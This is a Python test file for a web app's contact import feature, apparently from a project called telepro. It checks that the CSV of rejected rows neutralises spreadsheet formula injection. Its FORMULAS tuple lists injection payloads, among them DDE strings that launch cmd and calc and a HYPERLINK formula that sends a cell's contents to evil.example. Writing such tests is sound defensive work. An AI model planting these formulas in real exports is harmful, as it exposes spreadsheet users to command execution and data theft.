"""A cell of somebody's file is no formula in the file of rejected rows, nor in its headings."""

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from flask import Flask
from sqlalchemy import select

from telepro import clock
from telepro.db.whom import Import
from telepro.services import import_checks, imports
from tests.web.office import Browser, browser_of, pages, rows
from tests.web.office_at_work import SAID, read
from tests.world import World

__all__ = ["pages", "rows"]

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1,"x")', "=IMPORTXML(A1,1)",
    "+1+1", "+33199000001", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@A1",
    "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=1+1;=2+2", '"=1+1"', "'=1+1",
    " =1+1", "\u00a0=1+1", "\ufeff=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A=1+1", "|calc",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def bob(pages: Flask, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Browser:
    settings = pages.extensions["telepro.settings"]
    monkeypatch.setitem(pages.extensions, "telepro.settings", replace(settings, data=tmp_path))
    return browser_of(pages, world.rows, world.bob)


def rejected(bob: Browser, world: World, cells: tuple[str, ...]) -> list[list[str]]:
    """Send a file of rows that can't be taken, and fetch the file of what was rejected."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow(["Nom", "Telephone", "Ville", *cells[:3]])
    for cell in cells:
        writer.writerow([cell, "pas de numéro", cell, cell, cell, cell])
    file = io.BytesIO(buffer.getvalue().encode()), "a.csv"
    form = {**SAID, "company": world.company.public_id, "file": file}
    assert bob.post("/imports/new", form).location == "/imports/columns"
    page = read(bob.get("/imports/columns"))
    fields = {str(each["name"]): each["value"] for each in page.select("input[type=hidden]")}
    fields |= {
        str(each["name"]): (each.select_one("option[selected]") or {"value": ""})["value"]
        for each in page.select("select")
    }
    assert bob.post("/imports/columns", fields).status_code == 303
    row = world.rows.scalars(select(Import)).one()
    import_checks.run(row.id, world.now, lambda: clock.now())
    looked_at = bob.get(f"/imports/{row.public_id}/would-be-rejected.csv").data
    assert bob.post(f"/imports/{row.public_id}/begin").status_code == 303
    imports.run(row.id, world.now, lambda: clock.now())
    answer = bob.get(f"/imports/{row.public_id}/rejected.csv")
    assert answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"].startswith("attachment; ")
    assert looked_at == answer.data
    text = answer.data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";" if ";" in text[:80] else ","))


def test_no_cell_of_the_rejected_rows_begins_a_formula(bob: Browser, world: World) -> None:
    table = rejected(bob, world, FORMULAS)
    assert len(table) > len(FORMULAS) - 3
    running = [cell for row in table for cell in row if cell.startswith(STARTS)]
    assert running == []
    kept = {cell.lstrip("'") for row in table for cell in row}
    assert {"=1+1", "+33199000001", "@A1"} <= kept


def test_every_cell_of_the_rejected_rows_is_quoted(bob: Browser, world: World) -> None:
    table = rejected(bob, world, ("a;b", 'say "x"', "two\nlines", "=1+1"))
    assert {len(row) for row in table} == {11}
